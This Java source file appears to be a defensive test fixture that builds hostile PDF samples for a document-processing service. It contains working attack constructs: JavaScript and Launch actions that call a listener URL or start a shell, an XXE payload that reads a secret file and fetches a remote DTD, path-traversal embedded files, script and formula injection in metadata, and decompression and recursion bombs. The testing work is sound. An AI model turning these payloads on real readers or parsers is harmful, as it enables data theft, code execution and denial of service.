package vn.vankho.hostile;

import static vn.vankho.hostile.HostileFile.harmless;
import static vn.vankho.hostile.HostileFile.refused;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

/** PDF files that act, fetch, hide something or have no end. */
final class HostilePdfs {

  private static final String DAMAGED = "pdf-damaged";

  private HostilePdfs() {}

  /**
   * @param url an address at which a listener waits for whoever fetches
   * @param secret a file whose content must never be seen again
   */
  static List<HostileFile> all(String url, String secret) {
    List<HostileFile> files = new ArrayList<>();
    files.addAll(actions(url, secret));
    files.addAll(structures());
    files.addAll(bombs());
    files.addAll(damaged());
    return files;
  }

  private static HostileFile acting(String name, String catalog, String page) {
    return harmless(name, () -> RawPdf.page(catalog, page).bytes());
  }

  private static List<HostileFile> actions(String url, String secret) {
    String js = "<< /S /JavaScript /JS (app.launchURL\\('" + url + "/js'\\)) >>";
    return List.of(
        acting("javascript on opening.pdf", "/OpenAction " + js, ""),
        acting("javascript on each page.pdf", "", "/AA << /O " + js + " /C " + js + " >>"),
        acting(
            "javascript by name.pdf", "/Names << /JavaScript << /Names [(a) " + js + "] >> >>", ""),
        acting(
            "launch.pdf",
            "/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
            ""),
        acting("uri.pdf", "/OpenAction << /S /URI /URI (" + url + "/uri) >>", ""),
        acting(
            "link with a script.pdf",
            "",
            "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI"
                + " (javascript:alert\\(1\\)) >> >>]"),
        acting(
            "submitting form.pdf",
            "/AcroForm << /Fields [] /NeedAppearances true >> /OpenAction << /S /SubmitForm /F << /FS"
                + " /URL /F ("
                + url
                + "/form) >> >>",
            ""),
        acting("importing data.pdf", "/OpenAction << /S /ImportData /F (" + secret + ") >>", ""),
        acting(
            "going to a share.pdf",
            "/OpenAction << /S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\a.pdf) /D [0 /Fit] >>",
            ""),
        harmless(
            "content in another file.pdf",
            () ->
                new RawPdf()
                        .object("<< /Type /Catalog /Pages 2 0 R >>")
                        .object("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
                        .object(
                            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 6 0"
                                + " R] /Resources << /Font << /F1 5 0 R >> >> >>")
                        .stream("", RawPdf.WORDS.getBytes(StandardCharsets.US_ASCII))
                        .object("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
                        .stream("/F << /FS /URL /F (" + url + "/stream) >>", new byte[0])
                        .bytes()),
        harmless(
            "embedded program.pdf",
            () ->
                RawPdf.page(
                        "/Names << /EmbeddedFiles << /Names [(../../escaped.exe) 6 0 R] >> >>", "")
                    .object("<< /Type /Filespec /F (../../escaped.exe) /EF << /F 7 0 R >> >>")
                    .stream(
                        "/Type /EmbeddedFile",
                        "MZ this is a program".getBytes(StandardCharsets.UTF_8))
                    .bytes()),
        harmless(
            "form in XML.pdf",
            () ->
                RawPdf.page("/AcroForm << /Fields [] /XFA 6 0 R >>", "").stream(
                        "", entity(secret, url).getBytes(StandardCharsets.UTF_8))
                    .bytes()),
        harmless(
            "metadata with entities.pdf",
            () ->
                RawPdf.page("/Metadata 6 0 R", "").stream(
                        "/Type /Metadata /Subtype /XML",
                        entity(secret, url).getBytes(StandardCharsets.UTF_8))
                    .bytes()),
        harmless(
            "metadata with mark-up.pdf",
            () ->
                RawPdf.page("", "")
                    .object(
                        "<< /Title (</title><script>alert\\(1\\)</script>) /Author"
                            + " (=HYPERLINK\\(\""
                            + url
                            + "\"\\)) /CreationDate (D:99999999999999) >>")
                    .trailer("/Info 6 0 R")
                    .bytes()));
  }

  static String entity(String secret, String url) {
    return "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY s SYSTEM \""
        + secret
        + "\"><!ENTITY % r SYSTEM \""
        + url
        + "/dtd\"> %r;]><a>&s;</a>";
  }

  private static List<HostileFile> structures() {
    return List.of(
        refused(
            "page tree that holds itself.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages 2 0 R >>")
                    .object("<< /Type /Pages /Kids [2 0 R] /Count 5 >>")
                    .bytes(),
            DAMAGED,
            "pdf-no-pages"),
        refused(
            "page tree of a hundred thousand levels.pdf",
            () -> {
              RawPdf pdf = new RawPdf().object("<< /Type /Catalog /Pages 2 0 R >>");
              for (int i = 0; i < 100_000; i++) {
                pdf.object("<< /Type /Pages /Count 1 /Kids [" + (i + 3) + " 0 R] >>");
              }
              return pdf.object("<< /Type /Page /MediaBox [0 0 595 842] >>").bytes();
            },
            DAMAGED,
            "pdf-no-pages"),
        refused(
            "a million times the same page.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages 2 0 R >>")
                    .object(
                        "<< /Type /Pages /Count 1000000 /Kids ["
                            + "3 0 R ".repeat(1_000_000)
                            + "] >>")
                    .object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
                    .bytes(),
            "too-many-pages",
            DAMAGED),
        refused(
            "a billion pages by its own word.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages 2 0 R >>")
                    .object("<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>")
                    .object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
                    .bytes(),
            "too-many-pages",
            DAMAGED),
        harmless("form that draws itself.pdf", () -> drawing("/X Do", "", "/X Do")),
        harmless("forms that multiply.pdf", HostilePdfs::laughing),
        harmless(
            "graphics states without end.pdf",
            () -> RawPdf.page("", "", "q ".repeat(500_000) + RawPdf.WORDS).bytes()),
        harmless(
            "a million letters.pdf",
            () ->
                RawPdf.page(
                        "",
                        "",
                        "BT /F1 1 Tf 72 700 Td " + "(aaaaaaaaaa) Tj ".repeat(100_000) + "ET")
                    .bytes()),
        harmless(
            "a line of a million dashes.pdf",
            () ->
                RawPdf.page("", "", RawPdf.WORDS + " [0.0001 0.0001] 0 d 1 w 0 0 m 590 800 l S")
                    .bytes()),
        harmless(
            "a glyph that draws itself.pdf",
            () ->
                RawPdf.page(
                        "",
                        "/Resources << /Font << /F1 6 0 R >> >>",
                        "BT /F1 12 Tf 72 700 Td (aaaa) Tj ET")
                    .object(
                        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0"
                            + " 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding <<"
                            + " /Differences [97 /a] >> /CharProcs << /a 7 0 R >> /Resources <<"
                            + " /Font << /F1 6 0 R >> >> >>")
                    .stream("", "9 0 d0 BT /F1 12 Tf (a) Tj ET".getBytes(StandardCharsets.US_ASCII))
                    .bytes()),
        harmless(
            "a pattern that paints itself.pdf",
            () ->
                RawPdf.page(
                        "",
                        "/Resources << /Font << /F1 5 0 R >> /Pattern << /P 6 0 R >> >>",
                        RawPdf.WORDS + " /Pattern cs /P scn 0 0 595 842 re f")
                    .stream(
                        "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001"
                            + " /YStep 0.001 /Resources << /Pattern << /P 6 0 R >> >>",
                        "/Pattern cs /P scn 0 0 1 1 re f".getBytes(StandardCharsets.US_ASCII))
                    .bytes()),
        harmless(
            "an annotation that shows itself.pdf",
            () ->
                RawPdf.page(
                        "",
                        "/Annots [<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 6 0 R"
                            + " >> >>]")
                    .stream(
                        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X"
                            + " 6 0 R >> >>",
                        "/X Do /X Do".getBytes(StandardCharsets.US_ASCII))
                    .bytes()),
        harmless(
            "letters that mean too much.pdf",
            () ->
                RawPdf.page("", "/Resources << /Font << /F1 6 0 R >> >>")
                    .object(
                        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>")
                    .stream(
                        "",
                        ("/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange"
                                + " <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange"
                                + " <00000000> <7FFFFFFF> <0041> endbfrange endcmap")
                            .getBytes(StandardCharsets.US_ASCII))
                    .bytes()),
        harmless("a page of a million metres.pdf", () -> sized("0 0 1e9 1e9")),
        harmless("a page of no size.pdf", () -> sized("0 0 0 0")),
        harmless("a page inside out.pdf", () -> sized("595 842 -595 -842")),
        harmless(
            "a hundred thousand contents.pdf",
            () -> RawPdf.page("", "/Contents [" + "4 0 R ".repeat(100_000) + "]", "q Q").bytes()));
  }

  private static byte[] sized(String box) {
    return new String(RawPdf.page("", "").bytes(), StandardCharsets.ISO_8859_1)
        .replace("0 0 595 842", box)
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] drawing(String own, String dictionary, String form) {
    return RawPdf.page(
            "",
            "/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>",
            RawPdf.WORDS + " " + own)
        .stream(
            "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R"
                + " >> >> "
                + dictionary,
            form.getBytes(StandardCharsets.US_ASCII))
        .bytes();
  }

  /** Ten forms, each drawing the next ten times. */
  private static byte[] laughing() {
    RawPdf pdf =
        RawPdf.page(
            "",
            "/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>",
            RawPdf.WORDS + " /X Do");
    for (int i = 0; i < 12; i++) {
      pdf.stream(
          "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X "
              + (i + 7)
              + " 0 R >> >>",
          "/X Do ".repeat(10).getBytes(StandardCharsets.US_ASCII));
    }
    return pdf.stream(
            "/Type /XObject /Subtype /Form /BBox [0 0 1 1]",
            "0 0 1 1 re f".getBytes(StandardCharsets.US_ASCII))
        .bytes();
  }

  private static HostileFile image(String name, String dictionary, byte[] data) {
    return harmless(
        name,
        () ->
            RawPdf.page(
                    "", "/Resources << /XObject << /X 6 0 R >> >>", "q 595 0 0 842 0 0 cm /X Do Q")
                .stream("/Type /XObject /Subtype /Image " + dictionary, data)
                .bytes());
  }

  private static List<HostileFile> bombs() {
    String huge = "/Width 60000 /Height 60000 ";
    return List.of(
        refused(
            "two gigabytes of content.pdf",
            () ->
                RawPdf.page("", "/Contents 6 0 R").stream(
                        "/Filter /FlateDecode", RawPdf.bomb(2048, ' '))
                    .bytes(),
            "decompression-bomb"),
        refused(
            "a bomb in a bomb.pdf",
            () ->
                RawPdf.page("", "/Contents 6 0 R").stream(
                        "/Filter [/FlateDecode /FlateDecode]",
                        RawPdf.deflated(RawPdf.bomb(2048, ' ')))
                    .bytes(),
            "decompression-bomb"),
        refused(
            "a bomb in the cross-references.pdf",
            () -> {
              RawPdf pdf = RawPdf.page("", "");
              int at = pdf.size();
              pdf.stream(
                  "/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode",
                  RawPdf.bomb(2048, '\0'));
              byte[] whole = pdf.bytes();
              String text = new String(whole, StandardCharsets.ISO_8859_1);
              return text.replaceFirst("startxref\n\\d+", "startxref\n" + at)
                  .getBytes(StandardCharsets.ISO_8859_1);
            },
            "decompression-bomb"),
        refused(
            "a bomb in an object stream.pdf",
            () ->
                RawPdf.page("", "").stream(
                        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", RawPdf.bomb(2048, ' '))
                    .bytes(),
            "decompression-bomb"),
        image(
            "image of 60,000 pixels.pdf",
            huge + "/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
            RawPdf.bomb(1, ' ')),
        image(
            "fax of 60,000 pixels.pdf",
            huge
                + "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms"
                + " << /K -1 /Columns 60000 /Rows 60000 >>",
            new byte[] {0, 16, 1, 0, 16, 1}),
        image(
            "JBIG2 of nothing.pdf",
            huge + "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
            new byte[100]),
        image("JPEG 2000 of nothing.pdf", huge + "/Filter /JPXDecode", new byte[100]),
        image(
            "JPEG that lies.pdf",
            "/Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
            HostileImages.lyingJpeg()),
        image(
            "mask of itself.pdf",
            "/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 6 0 R",
            new byte[100]),
        image(
            "colours of colours.pdf",
            "/Width 10 /Height 10 /ColorSpace 7 0 R /BitsPerComponent 8",
            new byte[100]));
  }

  private static List<HostileFile> damaged() {
    byte[] good = RawPdf.page("", "").bytes();
    return List.of(
        refused(
            "behind a password.pdf",
            () -> {
              try (PDDocument pdf = new PDDocument();
                  ByteArrayOutputStream out = new ByteArrayOutputStream()) {
                pdf.addPage(new PDPage());
                pdf.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
                pdf.save(out);
                return out.toByteArray();
              }
            },
            "pdf-encrypted"),
        refused(
            "behind an unknown lock.pdf",
            () ->
                RawPdf.page("", "")
                    .trailer("/Encrypt << /Filter /Nobody /V 9 /R 9 >> /ID [<00> <00>]")
                    .bytes(),
            DAMAGED,
            "pdf-encrypted"),
        refused("truncated in the middle.pdf", () -> Arrays.copyOf(good, good.length / 2), DAMAGED),
        refused("truncated at the beginning.pdf", () -> Arrays.copyOf(good, 120), DAMAGED),
        harmless("truncated at the end.pdf", () -> Arrays.copyOf(good, good.length - 60)),
        refused(
            "head and nothing.pdf",
            () -> "%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII),
            DAMAGED),
        refused(
            "cross-references in a ring.pdf",
            () ->
                ("%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R /Prev 9"
                        + " >>\nstartxref\n9\n%%EOF\n")
                    .getBytes(StandardCharsets.US_ASCII),
            DAMAGED),
        refused(
            "arrays in arrays.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages " + "[".repeat(300_000) + " >>")
                    .bytes(),
            DAMAGED),
        refused(
            "dictionaries in dictionaries.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages " + "<</a ".repeat(300_000) + " >>")
                    .bytes(),
            DAMAGED),
        refused(
            "a length that is itself.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages 2 0 R >>")
                    .object("<< /Type /Pages /Length 2 0 R >>\nstream\nabc\nendstream")
                    .bytes(),
            DAMAGED,
            "pdf-no-pages"),
        refused(
            "objects that extend each other.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages 3 0 R >>").stream(
                            "/Type /ObjStm /N 1 /First 4 /Extends 2 0 R",
                            "3 0 2 0 R".getBytes(StandardCharsets.US_ASCII))
                        .bytes(),
            DAMAGED,
            "pdf-no-pages"),
        refused(
            "all noise after the head.pdf",
            () -> {
              byte[] noise = new byte[200_000];
              new java.util.Random(7).nextBytes(noise);
              System.arraycopy("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), 0, noise, 0, 9);
              return noise;
            },
            DAMAGED),
        refused(
            "a page of the wrong kind.pdf",
            () ->
                new RawPdf()
                    .object("<< /Type /Catalog /Pages 2 0 R >>")
                    .object("<< /Type /Pages /Count 2 /Kids [(text) 42] >>")
                    .bytes(),
            DAMAGED,
            "pdf-no-pages"));
  }
}
